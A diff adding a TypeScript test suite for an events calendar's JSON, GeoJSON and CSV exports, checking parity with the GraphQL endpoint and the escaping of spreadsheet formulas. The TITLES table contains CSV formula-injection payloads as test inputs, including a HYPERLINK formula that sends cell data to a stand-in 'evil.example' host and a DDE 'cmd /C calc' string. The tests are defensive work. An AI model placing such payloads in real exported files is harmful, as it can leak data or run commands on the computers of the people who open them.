@@ -1,0 +1,385 @@
+/** I6: plain lists hold what the endpoint answers, whatever is asked; and a spreadsheet runs nothing of them. */
+import { execFileSync } from 'node:child_process';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { isDeepStrictEqual } from 'node:util';
+import { parse } from 'csv-parse/sync';
+import { getNamedType, isInputObjectType, isObjectType } from 'graphql';
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { feeds as annex } from '../../../src/annexes/feeds/annex.ts';
+import { plainLines } from '../../../src/calendar/markup.ts';
+import { schema } from '../../../src/serve/graphql/schema.ts';
+import { NOW } from '../../helpers/calendar.ts';
+import { temporaryFolder } from '../../helpers/folder.ts';
+import { sourceFolder } from '../../helpers/native-source.ts';
+import { EnumValue, type Random, seeded } from '../../helpers/random-operations.ts';
+import { startBuilt } from '../../helpers/running.ts';
+import { openSample, type Sample } from '../../helpers/sample.ts';
+import { isInstalled, when } from '../../helpers/when.ts';
+import { startSample } from '../../serve/http/sample.ts';
+import type { Stand } from '../../serve/http/stand.ts';
+
+const LONG = process.env.ALMANAKK_TEST_LONG === '1';
+const CASES = LONG ? 400 : 25;
+
+const lists = suite<{ stand: Stand; sample: Sample; labels: Map<string, Labels> }>('plain lists');
+
+interface Labels {
+  readonly name_nb: string;
+  readonly name_en: string;
+}
+
+lists.before(async (context) => {
+  context.stand = await startSample({ annexes: [annex] });
+  context.sample = await openSample();
+  const { data } = await ask(
+    context.stand.url,
+    '{ categories { id name_nb name_en subcategories { id name_nb name_en } } }',
+  );
+  context.labels = new Map(
+    data.categories
+      .flatMap((category: { subcategories: [] }) => [category, ...category.subcategories])
+      .map((category: Labels & { id: string }) => [category.id, category]),
+  );
+});
+lists.after(async ({ stand, sample }) => {
+  await stand.close();
+  await sample.snapshot.close();
+});
+
+async function ask(url: string, query: string, variables: object = {}) {
+  const headers = { 'content-type': 'application/json' };
+  const response = await fetch(`${url}/graphQL`, {
+    method: 'POST',
+    headers,
+    body: JSON.stringify({ query, variables }),
+  });
+  return JSON.parse(await response.text());
+}
+
+/** All fields that are not deprecated. */
+function selectionOf(name: string): string {
+  const type = schema.getType(name);
+  if (!isObjectType(type)) return '';
+  const fields = Object.values(type.getFields()).filter(
+    ({ deprecationReason }) => deprecationReason === undefined,
+  );
+  return `{ ${fields.map((field) => `${field.name} ${selectionOf(getNamedType(field.type).name)}`).join(' ')} }`;
+}
+
+const QUERY = `query ($filter: Filter, $page: Int, $pageSize: Int) {
+  events(filter: $filter, page: $page, pageSize: $pageSize) {
+    totalCount hasMore pageInfo { currentPage pageSize } data ${selectionOf('Event')}
+  }
+}`;
+
+interface Question {
+  readonly filter: Readonly<Record<string, unknown>>;
+  readonly page: unknown;
+  readonly pageSize: unknown;
+  readonly lang: 'nb' | 'en';
+}
+
+function randomQuestion(random: Random, { values }: Sample): Question {
+  const filterType = schema.getType('Filter');
+  const names = isInputObjectType(filterType) ? Object.keys(filterType.getFields()) : [];
+  const filter: Record<string, unknown> = {};
+  for (let left = random(4); left > 0; left--) {
+    const name = names[random(names.length)] ?? '';
+    filter[name] = values(name, random);
+  }
+  const [page, pageSize] = [values('page', random), values('pageSize', random) ?? 250];
+  return { filter, page, pageSize, lang: random(2) === 0 ? 'nb' : 'en' };
+}
+
+function searchOf({ filter, page, pageSize, lang }: Question): string {
+  const search = new URLSearchParams({ lang });
+  for (const [name, value] of Object.entries({ ...filter, page, pageSize })) {
+    const values = [value].flat().filter((one) => one !== null && one !== undefined);
+    if (values.length > 0)
+      search.set(name, values.map((one) => (one instanceof EnumValue ? one.name : one)).join(','));
+  }
+  return `${search}`;
+}
+
+// biome-ignore lint/suspicious/noExplicitAny: answers of a schema that grows.
+type Answered = any;
+
+lists(
+  'I6: should hold the nodes of events with all their fields, or refuse what events refuses',
+  async ({ stand, sample, labels }) => {
+    const random = seeded(29);
+    let found = 0;
+    for (let left = CASES; left > 0; left--) {
+      const question = randomQuestion(random, sample);
+      const { lang, ...variables } = question;
+      const search = searchOf(question);
+      const [expected, json, geo, csv]: Answered[] = await Promise.all([
+        ask(stand.url, QUERY, variables),
+        ...['json', 'geojson', 'csv'].map((kind) =>
+          stand.send(`/events.${kind}?${search}${kind === 'csv' ? '&repetitions=all' : ''}`),
+        ),
+      ]);
+      if (expected.data === null) {
+        for (const { status, text } of [json, geo, csv]) {
+          assert.is(status, 400, search);
+          assert.equal(
+            JSON.parse(text).errors[0].extensions.invalidArgs,
+            expected.errors[0].extensions.invalidArgs,
+          );
+        }
+        continue;
+      }
+      const { totalCount, hasMore, pageInfo, data: nodes } = expected.data.events;
+      const page = { totalCount, hasMore, page: pageInfo.currentPage, pageSize: pageInfo.pageSize };
+      const events = nodes.map((node: Answered) => inLanguage(node, lang, labels));
+      found += events.length;
+      same(JSON.parse(json.text).events, events, search);
+      assert.equal({ ...JSON.parse(json.text), events: [] }, { ...page, events: [] }, search);
+      assert.equal(JSON.parse(geo.text), {
+        type: 'FeatureCollection',
+        ...page,
+        features: events.filter(({ venue }: Answered) => venue?.location).map(featureOf),
+      });
+      same(
+        rowsIn(csv.text),
+        events.flatMap((event: Answered) => rowsOf(event, lang)),
+        search,
+      );
+    }
+    assert.ok(found > CASES, `only ${found} nodes`);
+  },
+);
+
+/** Says the first that differs: a difference of thousands takes minutes to print. */
+function same(found: readonly object[], expected: readonly object[], search: string): void {
+  for (const [place, each] of expected.entries()) {
+    if (!isDeepStrictEqual(found[place], each)) assert.equal(found[place], each, `${search}, at ${place}`);
+  }
+  assert.is(found.length, expected.length, search);
+}
+
+function inLanguage(node: Answered, lang: 'nb' | 'en', labels: Map<string, Labels>): Answered {
+  const pick = (nb: unknown, en: unknown) => (lang === 'nb' ? (nb ?? en) : (en ?? nb));
+  return {
+    title: pick(node.title_nb, node.title_en),
+    description: pick(node.desc_nb, node.desc_en),
+    categoryLabels: node.categories.map((id: string) =>
+      pick(labels.get(id)?.name_nb, labels.get(id)?.name_en),
+    ),
+    ...node,
+  };
+}
+
+function featureOf(event: Answered): object {
+  const { latitude, longitude } = event.venue.location;
+  const geometry = { type: 'Point', coordinates: [longitude, latitude] };
+  return { type: 'Feature', id: event.occurrenceID, geometry, properties: event };
+}
+
+const rowsIn = (csv: string): Answered[] => parse(csv, { columns: true, record_delimiter: '\r\n' });
+
+/** Its values as the interface has them, but for prices, the cover image and texts, which are put for readers. */
+function rowsOf(event: Answered, lang: 'nb' | 'en'): object[] {
+  const shown = { ...event, id: event.occurrenceID, prices: null };
+  return [shown, ...event.repetitions].map((date) => {
+    const prices = event.ticketsInformation === 'ticketsInfo' ? (date.prices ?? event.prices) : [];
+    return texts({
+      id: event.id,
+      occurrenceID: date.id,
+      title: event.title,
+      startDate: date.startDate,
+      endDate: date.endDate,
+      day: date.startDate.slice(0, 10),
+      startTime: date.startTime,
+      endTime: date.endDate === date.startDate ? null : date.endDate.slice(11, 16),
+      allDay: date.allDay,
+      eventCancelled: date.eventCancelled,
+      eventSoldOut: date.eventSoldOut,
+      mode: event.mode,
+      venue: date.venue?.name,
+      address: date.venue?.address,
+      postalCode: date.venue?.postalCode,
+      municipality: date.venue?.municipality,
+      latitude: date.venue?.location?.latitude,
+      longitude: date.venue?.location?.longitude,
+      categoryLabels: event.categoryLabels.join(', '),
+      organizers: event.organizers.map(({ name }: Answered) => name).join(', '),
+      eventLink: event.eventLink,
+      ticketsURL: date.ticketsURL,
+      streamingURL: event.streamingURL,
+      free: event.ticketsInformation === 'free',
+      prices: prices
+        .map((price: Answered) =>
+          [price[`name_${lang}`] ?? price.name_nb ?? price.name_en ?? price.type, price.price]
+            .filter((part) => part !== null)
+            .join(' '),
+        )
+        .join(', '),
+      image: event.images[0]?.urlLarge,
+      description: event.description && plainLines(event.description).replaceAll('\n', ' '),
+    });
+  });
+}
+
+const texts = (row: object): object =>
+  Object.fromEntries(Object.entries(row).map(([name, value]) => [name, String(value ?? '')]));
+
+lists(
+  'I9: the table should leave out dates that are far away, unless all are asked for',
+  async ({ stand }) => {
+    const [near, all] = [await stand.send('/events.csv'), await stand.send('/events.csv?repetitions=all')];
+    const count = ({ text }: { text: string }) => rowsIn(text).length;
+    assert.ok(count(near) < count(all) / 2, `${count(near)} of ${count(all)}`);
+    assert.ok(rowsIn(near.text).every(({ day }) => day < '2027-06-16'));
+  },
+);
+
+lists('I6: the header of the table only grows at its end', async ({ stand }) => {
+  const { text } = await stand.send('/events.csv?pageSize=1');
+  assert.ok(
+    text.startsWith(
+      'id,occurrenceID,title,startDate,endDate,day,startTime,endTime,allDay,eventCancelled,eventSoldOut,mode,venue,address,postalCode,' +
+        'municipality,latitude,longitude,categoryLabels,organizers,eventLink,ticketsURL,streamingURL,free,prices,image,description',
+    ),
+  );
+});
+
+lists(
+  'I6: should be made for Norwegian spreadsheets, which know UTF-8 by a mark and decimals by a comma',
+  async ({ stand }) => {
+    const [plain, norwegian] = [
+      await stand.send('/events.csv?pageSize=100'),
+      await stand.send('/events.csv?pageSize=100&delimiter=;'),
+    ];
+    assert.is(plain.headers['content-type'], 'text/csv; charset=utf-8; header=present');
+    assert.not.match(plain.text, /\ufeff/);
+    assert.equal([...norwegian.bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+    const rows: Answered[] = parse(norwegian.text, {
+      columns: true,
+      delimiter: ';',
+      bom: true,
+      record_delimiter: '\r\n',
+    });
+    const expected = rowsIn(plain.text).map((row) => ({
+      ...row,
+      latitude: row.latitude.replace('.', ','),
+      longitude: row.longitude.replace('.', ','),
+    }));
+    assert.equal(rows, expected);
+    for (const { text } of [plain, norwegian]) assert.not.match(text.replaceAll('\r\n', ''), /[\r\n]/);
+    for (const [search, reason] of [
+      ['delimiter=|', 'delimiter: expected one of ,, ;'],
+      ['delimiter=;&delimiter=;', 'delimiter: expected one value'],
+    ]) {
+      const { status, text } = await stand.send(`/events.csv?${search}`);
+      assert.equal([status, JSON.parse(text).errors[0].extensions.reasons], [400, [reason]]);
+    }
+    assert.is((await stand.send('/events.json?delimiter=;')).status, 400);
+  },
+);
+
+/** Titles as strangers write them, and how a spreadsheet gets them. */
+const TITLES: Readonly<Record<string, string>> = {
+  '=1+1': "'=1+1",
+  '=HYPERLINK("https://evil.example/?"&A1;"Les mer")': `'=HYPERLINK("https://evil.example/?"&A1;"Les mer")`,
+  "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+  '+47 73 00 00 00': "'+47 73 00 00 00",
+  '-2+3': "'-2+3",
+  '＝1+1': "'＝1+1",
+  'Rock;=1+1;': "Rock;'=1+1;",
+  'Rock,=1+1,': "Rock,'=1+1,",
+  'Rock;-1+1;': "Rock;'-1+1;",
+  'Fra 149,- per person = billig': 'Fra 149,- per person = billig',
+  'Sitat: "=1+1"': 'Sitat: "=1+1"',
+  "'=1+1": "'=1+1",
+  'a@b.example, 10-12': 'a@b.example, 10-12',
+};
+
+lists(
+  'I6: should put an apostrophe before a text that a spreadsheet would run, whichever delimiter it looks for',
+  async () => {
+    const events = Object.keys(TITLES).map((title, at) => ({
+      ...{ id: `e${String(at).padStart(2, '0')}`, title_nb: title, dates: [{ start: '2026-06-01 20:00' }] },
+      desc_nb: `<p>${title.replaceAll('<', '&lt;')}</p><p>=2+2</p>`,
+    }));
+    const running = await startBuilt(sourceFolder({ 'events.json': events }), NOW);
+    for (const delimiter of [',', ';']) {
+      const response = await fetch(`${running.url}/events.csv?delimiter=${delimiter}`);
+      const rows: Answered[] = parse(await response.text(), { columns: true, delimiter, bom: true });
+      assert.equal(
+        rows.map(({ title }) => title),
+        Object.values(TITLES),
+      );
+      for (const { description } of rows) assert.match(description, /[^\n]* =2\+2$/);
+    }
+    await running.close();
+  },
+);
+
+const office = when(
+  LONG && isInstalled('soffice'),
+  'only with --long, where LibreOffice is installed',
+  lists,
+);
+
+office('I6: LibreOffice should show what stands there, and run nothing of it', async ({ stand }) => {
+  const folder = temporaryFolder();
+  const events = Object.keys(TITLES).map((title, at) => ({
+    ...{
+      id: `e${String(at).padStart(2, '0')}`,
+      title_nb: title,
+      venue: 'v',
+      dates: [{ start: '2026-10-03 20:00' }],
+    },
+    desc_nb: `<p>${title.replaceAll('<', '&lt;')}</p><p>Blåbær; "syltetøy", ærlig</p>`,
+  }));
+  const venues = [{ id: 'v', name: 'Hos "Åse"; øvre, venstre', latitude: 63.4, longitude: 10.3 }];
+  const running = await startBuilt(sourceFolder({ 'events.json': events, 'venues.json': venues }), NOW);
+  const sources = {
+    strange: `${running.url}/events.csv?delimiter=;`,
+    sample: `${stand.url}/events.csv?delimiter=;&pageSize=60`,
+  };
+  for (const [name, url] of Object.entries(sources)) {
+    const text = await (await fetch(url)).text();
+    writeFileSync(join(folder, `${name}.csv`), text);
+    const expected: Answered[] = parse(text, { delimiter: ';', bom: true });
+    // As by a double click: semicolons, UTF-8, Norwegian, quoted fields not taken for text, formulas run.
+    const read = 'Text - txt - csv (StarCalc):59,34,76,1,,1044,false,true,false,false,false,0,true';
+    convert(folder, [`--infilter=${read}`, '--convert-to', 'fods', `${name}.csv`]);
+    const sheet = readFileSync(join(folder, `${name}.fods`), 'utf8');
+    assert.not.match(sheet, 'table:formula=');
+    // Back again, each cell as it is shown.
+    convert(folder, [
+      '--convert-to',
+      'csv:Text - txt - csv (StarCalc):9,34,76,1,,1044,false,true',
+      `${name}.fods`,
+    ]);
+    const found: Answered[] = parse(readFileSync(join(folder, `${name}.csv`)), {
+      delimiter: '\t',
+      bom: true,
+    });
+    same(
+      found.map(Object),
+      expected.map((row) => Object(row.map(asShown))),
+      name,
+    );
+    const decimal = /office:value="63\.\d+"/;
+    assert.match(sheet, decimal, 'latitudes are numbers');
+  }
+  await running.close();
+});
+
+function convert(folder: string, args: readonly string[]): void {
+  const options = ['--headless', `-env:UserInstallation=file://${folder}/profile`];
+  execFileSync('soffice', [...options, ...args], { cwd: folder, stdio: 'ignore', timeout: 120_000 });
+}
+
+/** What is a time or a number there is written in the way of the spreadsheet's own language. */
+function asShown(cell: string): string {
+  if (/^\d\d:\d\d$/.test(cell)) return `${cell}:00`;
+  return /^-?\d+,\d+$/.test(cell) ? cell.replace(',', '.') : cell;
+}
+
+lists.run();
